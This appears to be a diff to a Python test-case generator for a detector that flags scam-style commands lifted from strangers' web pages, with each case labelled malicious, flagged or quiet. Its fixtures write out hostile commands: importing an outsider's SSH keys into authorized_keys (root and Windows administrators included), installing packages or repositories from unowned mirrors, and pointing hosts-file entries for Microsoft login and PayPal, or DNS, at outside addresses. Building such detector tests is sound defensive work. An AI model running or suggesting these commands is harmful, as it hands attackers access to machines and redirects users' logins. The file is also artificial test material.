@@ -14,6 +14,21 @@ Techniques:
   for your PIN") but pushes you to call about money (an amount with "if this was not you", a
   clock, a threat): the promise clears nothing then. Look-alikes: the promise with a calm number,
   with the number on your card or the app, without a number.
+- `forge-keys`: a forge account's published keys imported as login keys (ssh-import-id gh:/lp:,
+  ssh-import-id-gh, <forge>/<account>.keys appended to authorized_keys, Windows' administrators
+  file) from a page that is not that account's. Look-alikes: your own notes (bare), your own
+  repository's page, documentation with placeholder or example accounts, removing keys, only
+  looking at the keys.
+- `package-source`: a package, a package index or a package repository from an address that a
+  tutorial-style page does not own (rpm/dnf/zypper with a URL, a .flatpakref, pip's extra index,
+  npm's registry, dnf config-manager / zypper addrepo / flatpak remote-add / a fetched .repo file
+  then installing). Look-alikes: the vendor's own page, a tutorial about the very product, the
+  company's own wiki for its own index, Flathub and the distributions' own sources, bare.
+- `win-hosts`: Windows' hosts file written (Add-Content, Set-Content, Out-File, echo >>,
+  [IO.File]::AppendAllText, a variable holding the path) or DNS servers set (netsh,
+  Set-DnsClientServerAddress) to an outside address from a stranger's page. Look-alikes:
+  loopback and 0.0.0.0 entries, a company's docs naming its own domain, a page on the local
+  network, reading the file, public resolvers, the home router.
 """
 
 from __future__ import annotations
@@ -74,6 +89,209 @@ for i, calm in enumerate(CALM):
     for j, promise in enumerate(PROMISES):
         brand, ph = BRANDS[(i + j) % len(BRANDS)], PHONES[(i + j) % len(PHONES)]
         book.add("promise-push", f"{calm} {promise}".format(brand=brand, ph=ph), QUIET)
+
+# ---- 6. a forge account's keys from a page that is not that account's -----------------------
+STRANGER_PAGES = (
+    "https://www.remote-help.example/setup",
+    "https://support.fixit-desk.test/connect",
+    "https://pc-helpline.invalid/step-2",
+    "https://forum.linux-help.example/t/cannot-login/8812",
+)
+ACCOUNTS = ("helpdesk-tech", "remote-support-01", "fixit-agent", "techdesk42")
+KEY_IMPORTS = (
+    ("ssh-import-id gh:{a}", FLAGGED),
+    ("sudo ssh-import-id gh:{a}", FLAGGED),
+    ("ssh-import-id-gh {a}", FLAGGED),
+    ("ssh-import-id lp:{a}", FLAGGED),
+    ("sudo ssh-import-id -o /root/.ssh/authorized_keys gh:{a}", FLAGGED),
+    ("curl -fsSL https://github.com/{a}.keys >> ~/.ssh/authorized_keys", FLAGGED),
+    ("wget -qO- https://gitlab.com/{a}.keys | tee -a ~/.ssh/authorized_keys", FLAGGED),
+    ("curl -s https://codeberg.org/{a}.keys | sudo tee -a /root/.ssh/authorized_keys", FLAGGED),
+    ("curl -o ~/.ssh/authorized_keys https://github.com/{a}.keys", FLAGGED),
+    (
+        "iwr https://github.com/{a}.keys -UseBasicParsing | Select -Expand Content | Add-Content "
+        "C:\\ProgramData\\ssh\\administrators_authorized_keys",
+        FLAGGED,
+    ),
+)
+for i, (command, expect) in enumerate(KEY_IMPORTS):
+    for j, page in enumerate(STRANGER_PAGES[:2] if i % 2 else STRANGER_PAGES[2:]):
+        account = ACCOUNTS[(i + j) % len(ACCOUNTS)]
+        platform = "windows" if "iwr" in command else "linux"
+        book.add("forge-keys", command.format(a=account), expect, platform, "terminal", page)
+# your own keys: bare notes, your own repository's page
+for i, (command, _) in enumerate(KEY_IMPORTS[:9]):
+    account = ACCOUNTS[i % len(ACCOUNTS)]
+    book.add("forge-keys", command.format(a=account), QUIET, "linux", "terminal")
+    own = f"https://github.com/{account}/dotfiles"
+    book.add("forge-keys", command.format(a=account), QUIET, "linux", "terminal", own)
+# documentation with placeholders or example accounts, removing keys, only looking
+for command in (
+    "ssh-import-id gh:<username>",
+    "ssh-import-id gh:your-github-username",
+    "ssh-import-id lp:$USER",
+    "ssh-import-id-gh octocat",
+    "curl https://github.com/octocat.keys >> ~/.ssh/authorized_keys",
+    "curl -s https://github.com/monalisa.keys | tee -a ~/.ssh/authorized_keys",
+    "ssh-import-id -r gh:helpdesk-tech",
+    "curl https://github.com/helpdesk-tech.keys",
+    "curl -s https://gitlab.com/fixit-agent.keys | ssh-keygen -lf -",
+):
+    for page in ("https://ubuntu.com/server/docs/openssh-server", STRANGER_PAGES[0]):
+        book.add("forge-keys", command, QUIET, "linux", "terminal", page)
+
+# ---- 7. a package, an index or a repository a tutorial-style page does not own --------------
+TUTORIALS = (
+    "https://www.fedora-printing-help.example/",
+    "https://www.linux-tips.example/blog/post-1234",
+    "https://www.python-course-free.example/lesson3",
+    "https://forum.distro-help.test/t/fix-wifi/8812",
+)
+PACKAGES = (
+    ("sudo rpm -ivh https://rpm.driver-mirror.test/printer-fix-1.0-1.x86_64.rpm", "malicious"),
+    ("sudo dnf install -y https://rpm.driver-mirror.test/wifi-fix-2.1.x86_64.rpm", "malicious"),
+    ("sudo zypper in https://rpm.driver-mirror.test/codec-pack-3.0.x86_64.rpm", "malicious"),
+    ("flatpak install -y --from https://flat.app-mirror.test/PhotoPro.flatpakref", "malicious"),
+    ("flatpak install https://flat.app-mirror.test/VideoPro.flatpakref", "malicious"),
+    (
+        "pip install --extra-index-url https://pkgs.py-mirror.invalid/simple requestz && "
+        "python -c 'import requestz'",
+        "malicious",
+    ),
+    ("pip install -i https://pkgs.py-mirror.invalid/simple numpyy", "malicious"),
+    (
+        "python3 -m pip install --index-url https://pkgs.py-mirror.invalid/simple/ pandas-fast",
+        "malicious",
+    ),
+    ("npm install --registry https://npm.js-mirror.test/ left-pad-fast", "malicious"),
+    (
+        "sudo dnf config-manager --add-repo https://rpm.driver-mirror.test/fix.repo && "
+        "sudo dnf install -y printer-fix",
+        FLAGGED,
+    ),
+    (
+        "sudo zypper ar -f https://rpm.driver-mirror.test/repo fixrepo\nsudo zypper in printer-fix",
+        FLAGGED,
+    ),
+    (
+        "flatpak remote-add --if-not-exists apps https://flat.app-mirror.test/apps.flatpakrepo && "
+        "flatpak install -y apps com.photo.Pro",
+        FLAGGED,
+    ),
+    (
+        "sudo curl -o /etc/yum.repos.d/fix.repo https://rpm.driver-mirror.test/fix.repo && "
+        "sudo yum install -y wifi-fix",
+        FLAGGED,
+    ),
+    (
+        'echo "deb [trusted=yes] https://apt.driver-mirror.test stable main" | sudo tee '
+        "/etc/apt/sources.list.d/fix.list && sudo apt update && sudo apt install printer-fix",
+        "malicious",
+    ),
+)
+for i, (command, expect) in enumerate(PACKAGES):
+    for j in range(2):
+        page = TUTORIALS[(i + j) % len(TUTORIALS)]
+        book.add("package-source", command, expect, "linux", "terminal", page)
+# the vendor's own page, a tutorial about the product, the company's own index, the stores
+OWN_SOURCES = (
+    (
+        "https://docs.docker.com/engine/install/fedora/",
+        "sudo dnf config-manager --add-repo https://download.docker.com/linux/fedora/docker-ce.repo"
+        " && sudo dnf install docker-ce docker-ce-cli containerd.io",
+    ),
+    (
+        "https://www.linux-tips.example/install-docker-on-fedora",
+        "sudo dnf config-manager --add-repo https://download.docker.com/linux/fedora/docker-ce.repo"
+        " && sudo dnf install docker-ce",
+    ),
+    (
+        "https://www.linux-tips.example/install-docker-on-fedora",
+        "sudo rpm -ivh https://download.docker.com/linux/fedora/docker-ce.rpm",
+    ),
+    (
+        "https://pytorch.org/get-started/locally/",
+        "pip3 install torch --index-url https://download.pytorch.org/whl/cu121",
+    ),
+    (
+        "https://wiki.acme-corp.example/python",
+        "pip install --extra-index-url https://pypi.acme-corp.example/simple acme-tool",
+    ),
+    (
+        "https://docs.quarrylog.io/install/fedora",
+        "sudo dnf config-manager --add-repo https://rpm.quarrylog.io/quarrylog.repo && sudo dnf install -y quarrylog",
+    ),
+    (
+        "https://www.linux-tips.example/blog/post-1234",
+        "flatpak remote-add --if-not-exists flathub https://dl.flathub.org/repo/flathub.flatpakrepo"
+        " && flatpak install -y flathub org.gimp.GIMP",
+    ),
+    (
+        "https://www.linux-tips.example/blog/post-1234",
+        "sudo dnf install https://dl.fedoraproject.org/pub/epel/epel-release-latest-9.noarch.rpm",
+    ),
+)
+for page, command in OWN_SOURCES:
+    book.add("package-source", command, QUIET, "linux", "terminal", page)
+for command, _ in PACKAGES[9:13]:  # a repository added, bare: every vendor's instructions
+    book.add("package-source", command, QUIET, "linux", "terminal")
+
+# ---- 9. Windows' hosts file and DNS servers from a stranger's page ---------------------------
+WIN_PAGES = (
+    "https://www.pc-speedup.example/tips",
+    "https://fix-slow-internet.test/windows",
+    "https://forum.gamer-help.example/t/lag/55",
+)
+HOSTS = r"C:\\Windows\\System32\\drivers\\etc\\hosts"
+ENTRIES = (
+    "203.0.113.7 login.microsoftonline.com",
+    "198.51.100.23 www.paypal.com",
+    "203.0.113.40 secure.harborbank.test",
+)
+WIN_WRITES = (
+    "Add-Content -Path " + HOSTS + ' -Value "{e}"',
+    "Add-Content " + HOSTS.replace("C:", "$env:SystemDrive") + ' "`r`n{e}"',
+    "echo {e} >> %WINDIR%\\System32\\drivers\\etc\\hosts",
+    '"{e}" | Out-File -Append -Encoding ascii ' + HOSTS,
+    '$h = "$env:windir\\System32\\drivers\\etc\\hosts"; Add-Content $h "{e}"',
+    "[IO.File]::AppendAllText('" + HOSTS + '\', "`r`n{e}")',
+    "Set-Content -Path " + HOSTS + ' -Value "127.0.0.1 localhost`n{e}" -Force',
+)
+for i, write in enumerate(WIN_WRITES):
+    for j in range(2):
+        page, entry = WIN_PAGES[(i + j) % len(WIN_PAGES)], ENTRIES[(i + j) % len(ENTRIES)]
+        book.add("win-hosts", write.format(e=entry), "malicious", "windows", "terminal", page)
+for command in (
+    'netsh interface ip set dns "Wi-Fi" static 203.0.113.53',
+    "netsh interface ipv4 add dnsserver name=Ethernet address=198.51.100.53 index=1",
+    "Set-DnsClientServerAddress -InterfaceAlias Ethernet -ServerAddresses 203.0.113.53",
+    'Set-DnsClientServerAddress -InterfaceIndex 12 -ServerAddresses ("198.51.100.53","203.0.113.54")',
+):
+    for page in WIN_PAGES[:2]:
+        book.add("win-hosts", command, "malicious", "windows", "terminal", page)
+# loopback and ad blocking, a company's own name, the local network's page, reading, resolvers
+for page, command in (
+    (WIN_PAGES[0], "Add-Content -Path " + HOSTS + ' -Value "127.0.0.1 myapp.local"'),
+    (WIN_PAGES[1], "Add-Content -Path " + HOSTS + ' -Value "0.0.0.0 ads.tracker.example"'),
+    (
+        "https://docs.corp-intranet.example/dev/setup",
+        "Add-Content -Path " + HOSTS + ' -Value "203.0.113.7 api.corp-intranet.example"',
+    ),
+    (
+        "http://wiki.corp/it/hosts",
+        "Add-Content -Path " + HOSTS + ' -Value "203.0.113.7 erp.example.net"',
+    ),
+    (WIN_PAGES[0], "type " + HOSTS),
+    (WIN_PAGES[1], "Get-Content " + HOSTS + " | Select-String paypal"),
+    (WIN_PAGES[2], 'netsh interface ip set dns "Wi-Fi" static 1.1.1.1'),
+    (WIN_PAGES[0], "Set-DnsClientServerAddress -InterfaceAlias Ethernet -ServerAddresses 9.9.9.9"),
+    (
+        WIN_PAGES[1],
+        "Set-DnsClientServerAddress -InterfaceAlias Wi-Fi -ServerAddresses 94.140.14.14",
+    ),
+    (WIN_PAGES[2], 'netsh interface ip set dns "Ethernet" static 192.168.1.1'),
+):
+    book.add("win-hosts", command, QUIET, "windows", "terminal", page)
 
 CASES = book.cases
 
